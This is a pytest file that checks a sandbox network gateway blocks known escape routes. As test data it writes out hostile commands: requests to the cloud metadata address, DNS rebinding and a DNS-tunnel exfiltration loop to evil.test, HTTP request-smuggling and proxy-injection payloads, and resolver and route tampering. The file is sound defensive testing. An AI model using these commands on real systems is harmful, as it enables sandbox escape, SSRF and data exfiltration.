"""Every way out that is known, tried from inside: each beside a way that is allowed, in the same sandbox.

A gateway that lets nothing through would pass the refusals; so each attempt stands between two requests that must
succeed. What counts is not what the program inside says, but what was dialled outside. The numbers are those of the
list of escape attempts.
"""

from __future__ import annotations

import re

import pytest
from tests.gateway.conftest import PUBLIC, Wall, World

FINE = "hello host=allowed.test body=0\n"
CURL = "curl -s -m 5"
HTTP = f"{CURL} http://allowed.test/fine"
HTTPS = f"{CURL} --cacert ca.pem https://allowed.test/fine"
PROXY = "-x http://198.18.0.1:3128"
_EVIDENCE = re.compile(r"hello|BEGIN|taken|written|changed|b'|198\.1[89]\.")
"""What an attempt prints when it succeeds."""
RULES = ("allowed.test", "*.allowed.test:443", "rebind.test", "rebind6.test", "metadata.test", "mixed.test")


def raw(host: str, port: int, text: str) -> str:
    """Send these bytes (with \\r and \\n written so) and print what comes."""
    return f"printf '{text}' | timeout 2 bash -c 'exec 3<>/dev/tcp/{host}/{port}; cat >&3; cat <&3'"


async def test_what_is_allowed_works_without_any_setting(walled: Wall, world: World) -> None:
    python = (
        "python3 -c \"import urllib.request as u, ssl; print(u.urlopen('http://allowed.test/', timeout=5).read(), "
        "u.urlopen('https://www.allowed.test/', timeout=5, context=ssl.create_default_context(cafile='ca.pem'))"
        '.status)"'
    )
    lines = [
        HTTP,
        HTTPS,
        f"{CURL} -d @- http://allowed.test/post <<< abc",
        f"head -c 300000 /dev/zero | {CURL} -T - http://allowed.test/chunked",
        f"{CURL} {PROXY} http://allowed.test/proxied",
        f"{CURL} {PROXY} --cacert ca.pem https://allowed.test/tunnelled",
        f"{CURL} http://allowed.test/1 http://allowed.test/2",
        f"{CURL} http://mixed.test/",
        f"{CURL} http://allowed.test/big3000000 | wc -c",
        f"{CURL} http://ALLOWED.test./",
        f"{CURL} --http2 http://allowed.test/",
        "getent ahosts allowed.test | grep -c 198.1[89].",
        python,
    ]
    box = await walled("\n".join(lines), *RULES)
    out = (await box.output()).splitlines()
    assert out == [
        "hello host=allowed.test body=0",
        "hello host=allowed.test body=0",
        "hello host=allowed.test body=3",
        "hello host=allowed.test body=300000",
        "hello host=allowed.test body=0",
        "hello host=allowed.test body=0",
        "hello host=allowed.test body=0",
        "hello host=allowed.test body=0",
        "hello host=mixed.test body=0",
        "3000000",
        "hello host=ALLOWED.test. body=0",
        "hello host=allowed.test body=0",
        "3",
        "b'hello host=allowed.test body=0\\n' 200",
    ]
    assert box.refusals() == []
    assert {address for address, _ in world.called} == {PUBLIC}


WAYS = {
    "37 host loopback": f"{CURL} http://127.0.0.1:{{http}}/",
    "37 host loopback, at a door of the gateway": f"{CURL} http://127.0.0.1/",
    "37 bridges and gateways": "; ".join(f"{CURL} http://{ip}/" for ip in ("172.17.0.1", "10.0.2.2", "198.18.0.1")),
    "38 metadata by number": f"{CURL} http://169.254.169.254/",
    "38 raw IPv4": f"{CURL} -k https://{PUBLIC}/; {CURL} http://{PUBLIC}/",
    "38 raw IPv6": f"{CURL} -k 'https://[2606:4700:4700::1111]/'",
    "38 a fake that was given to nobody": f"{CURL} -H 'Host: allowed.test' http://198.19.200.200/",
    "39 other name, http": f"{CURL} http://evil.test/",
    "39 other name, https": f"{CURL} -k https://evil.test/",
    "39 names around the allowed one": f"{CURL} http://notallowed.test/; {CURL} http://allowed.test.evil.test/; "
    f"{CURL} -k https://x.allowed.test.evil.test/",
    "40 other Host": f"{CURL} -H 'Host: evil.test' http://allowed.test/",
    "40 no Host": raw("allowed.test", 80, "GET / HTTP/1.0\\r\\n\\r\\n"),
    "40 two Hosts": raw("allowed.test", 80, "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n"),
    "40 Host with a port": f"{CURL} -H 'Host: allowed.test:8080' http://allowed.test/",
    "40 target with another host": raw(
        "allowed.test", 80, "GET http://evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
    ),
    "40 folded Host": raw("allowed.test", 80, "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n evil.test\\r\\n\\r\\n"),
    "40 bare line feeds": raw("allowed.test", 80, "GET / HTTP/1.1\\nHost: allowed.test\\n\\n"),
    "40 space before the colon": raw("allowed.test", 80, "GET / HTTP/1.1\\r\\nHost : allowed.test\\r\\n\\r\\n"),
    "40 HTTP/2 at once": f"{CURL} --http2-prior-knowledge http://allowed.test/",
    "40 other SNI": f"{CURL} -k --connect-to evil.test:443:allowed.test:443 https://evil.test/",
    "40 no SNI": "timeout 5 openssl s_client -noservername -connect allowed.test:443 < /dev/null 2>&1 | grep BEGIN",
    "40 plain bytes on 443": raw("allowed.test", 443, "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"),
    "40 TLS on 80": f"{CURL} -k https://allowed.test:80/",
    "42 rebinding to loopback": f"{CURL} http://rebind.test/",
    "42 rebinding in IPv6 and in disguise": f"{CURL} -k https://rebind6.test/",
    "42 rebinding to metadata": f"{CURL} http://metadata.test/",
    "43 port off the list": f"{CURL} http://allowed.test:8080/; {CURL} telnet://allowed.test:22 < /dev/null",
    "43 http where https is allowed": f"{CURL} http://www.allowed.test/",
    "44 proxy: to an address": f"{CURL} -k {PROXY} https://127.0.0.1:{{https}}/; {CURL} {PROXY} http://{PUBLIC}/",
    "44 proxy: odd spellings": "; ".join(
        f"{CURL} {PROXY} {tunnel} 'http://{spelling}:{{http}}/'"
        for spelling in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "localhost", "0")
        for tunnel in ("", "--proxytunnel")
    ),
    "44 proxy: userinfo, suffixes": "; ".join(
        f"{CURL} {PROXY} '{url}'"
        for url in (
            "http://allowed.test@evil.test/",
            "http://evilallowed.test/",
            "http://allowed.test.evil.test/",
            "http://evil.test/?allowed.test",
            "http://evil.test#allowed.test",
        )
    ),
    "44 proxy: port off the list": f"{CURL} --proxytunnel {PROXY} http://allowed.test:8080/",
    "44 proxy: header injection": raw(
        "198.18.0.1", 3128,
        "CONNECT allowed.test:80\\r\\nHost: x HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
    ),
    "44 proxy: tunnel, then another Host": raw(
        "198.18.0.1", 3128,
        "CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
    ),
    "44 proxy: tunnel, then another SNI": f"{CURL} -k {PROXY} --connect-to evil.test:443:allowed.test:443 "
    "https://evil.test/",
    "44 proxy: Host beside the address": f"{CURL} {PROXY} -H 'Host: evil.test' http://allowed.test/",
    "45 DNS to an outside server": "python3 -c \"import socket;s=socket.socket(2,2);s.settimeout(1);"
    "s.sendto(b'x',('8.8.8.8',53));print(s.recv(99))\" 2>/dev/null",
    "45 DNS tunnel": "for i in 1 2 3; do getent hosts secret$RANDOM.evil.test; done",
    "45 other records": "python3 -c \"import socket;s=socket.socket(2,2);s.settimeout(2);"
    "s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\20\\0\\1',('198.18.0.1',53));"
    "d=s.recv(99);print(d if d[7] else '')\" | grep .",
    "45 QUIC": "python3 -c \"import socket;s=socket.socket(2,2);s.settimeout(1);"
    "s.connect((socket.gethostbyname('allowed.test'),443));s.send(b'x');print(s.recv(9))\" 2>/dev/null",
    "46 route and interface": "ip route add default dev lo && echo changed; ip link add d0 type dummy && echo changed; "
    "ip addr add 10.9.9.9/8 dev lo && echo changed",
    "46 the port of the gateway": "python3 -c \"import socket;s=socket.socket();s.setsockopt(1,2,1);"
    "s.setsockopt(1,15,1);"
    "s.bind(('0.0.0.0',443));s.listen();print('taken')\" 2>/dev/null; python3 -c \"import socket;s=socket.socket();"
    "s.setsockopt(1,2,1);s.setsockopt(1,15,1);s.bind(('198.18.0.1',3128));s.listen();print('taken')\" 2>/dev/null",
    "46 the resolver": "echo nameserver 8.8.8.8 2>/dev/null > /etc/resolv.conf && echo written",
}  # fmt: skip


@pytest.mark.parametrize("row", sorted({way[:2] for way in WAYS}))
async def test_ways_out_that_are_closed(walled: Wall, world: World, row: str) -> None:
    """All ways of one kind, each followed by a request that must succeed: so the sandbox lives and the gateway too."""
    ways = {way: attempt.format(**world.servers) for way, attempt in WAYS.items() if way.startswith(row)}
    script = [f"{HTTP}\n"] + [
        f"echo '== {way}'\n{{ {attempt}; }} 2>&1\necho ==\n{HTTPS}" for way, attempt in ways.items()
    ]
    box = await walled("\n".join(script), *RULES)
    first, *said = re.split(r"(?m)^== (?=\d)", await box.output())
    assert first == FINE and len(said) == len(ways)
    for way, each in zip(ways, said, strict=True):
        attempt, _, after = each.removeprefix(way).rpartition("==\n")
        assert after == FINE and not _EVIDENCE.search(attempt), each
    assert world.called == [(PUBLIC, 80)] + [(PUBLIC, 443)] * len(ways)
    assert world.requests == ["allowed.test/fine"] * (1 + len(ways))


async def test_a_second_request_for_another_host_on_the_same_connection(walled: Wall, world: World) -> None:
    """Row 41, and its relatives that hide the second request in the first one's body."""
    good = "GET /1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n"
    bad = "GET /2 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
    attempts = [
        f"{good}\\r\\n{bad}",
        f"{good}Content-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{bad}",
        f"{good}Content-Length: 0\\r\\nContent-Length: 50\\r\\n\\r\\n{bad}",
        f"{good}Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{bad}",
        f"{good}Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n{bad}",
        f"{good}Transfer-Encoding: chunked\\r\\n\\r\\n0;\\n\\r\\n\\r\\n{bad}",
        f"{good}Transfer-Encoding: xchunked\\r\\n\\r\\n{bad}",
        f"{good}Content-Length: +5\\r\\n\\r\\nhello{bad}",
        f"{good}Upgrade: h2c\\r\\nConnection: Upgrade\\r\\n\\r\\n{bad}",
        f"{good}\\r\\nGET /3 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n{bad}",
    ]
    box = await walled("\n".join(raw("allowed.test", 80, each) for each in attempts), *RULES)
    out = await box.output()
    assert "evil" not in out.replace("is for 'evil.test'", "")
    assert set(world.requests) == {"allowed.test/1", "allowed.test/3"}
    assert "Network: allowed.test:80 refused: the request is for 'evil.test' on a connection to allowed.test." in (
        box.refusals()
    )


async def test_a_web_socket_passes_once_the_server_agrees(walled: Wall, world: World) -> None:
    head = "GET /ws HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n"
    box = await walled(raw("allowed.test", 80, f"{head}frames"), *RULES)
    assert (await box.output()).endswith("echo:frames")


async def test_any_protocol_where_a_rule_says_so(walled: Wall, world: World) -> None:
    box = await walled(raw("allowed.test", 22, "hi\\n"), "allowed.test:22/tcp")
    assert await box.output() == "welcome\nyou said hi\n"


async def test_other_ports_are_read_too(walled: Wall, world: World) -> None:
    lines = [
        f"{CURL} http://allowed.test:8080/",
        f"{CURL} -H 'Host: evil.test:8080' http://allowed.test:8080/",
        raw("allowed.test", 8080, "SSH-2.0-x\\r\\n\\r\\n"),
    ]
    box = await walled("\n".join(lines), "allowed.test:8080")
    out = await box.output()
    assert out.startswith("hello host=allowed.test:8080 body=0\n")
    assert world.called == [(PUBLIC, 8080)]


async def test_refusals_have_reasons(walled: Wall, world: World) -> None:
    script = (
        f"{CURL} http://evil.test/; {CURL} http://rebind.test/; {CURL} http://metadata.test/; "
        f"{CURL} -k https://rebind6.test/; {CURL} http://198.19.0.77/; {CURL} http://www.allowed.test/; {HTTP}"
    )
    box = await walled(script, *RULES)
    await box.output()
    assert box.refusals() == [
        "Network: evil.test refused: not on the list of what this desktop may reach.",
        "Network: rebind.test:80 refused: rebind.test leads to 127.0.0.1, which is not public (this computer).",
        "Network: metadata.test:80 refused: metadata.test leads to 169.254.169.254, which is not public (the local "
        "link, with the cloud's metadata service).",
        "Network: rebind6.test:443 refused: rebind6.test leads to fd00:ec2::254, which is not public (loopback, "
        "private or reserved).",
        "Network: a connection on port 80 refused: it was made to an address, and not to a name that was looked up.",
        "Network: www.allowed.test:80 refused: not on the list of what this desktop may reach.",
    ]
    allowed = [each.words for each in box.decisions if each.allowed and each.kind == "connection"]
    assert allowed == ["Network: allowed.test:80 reached."]
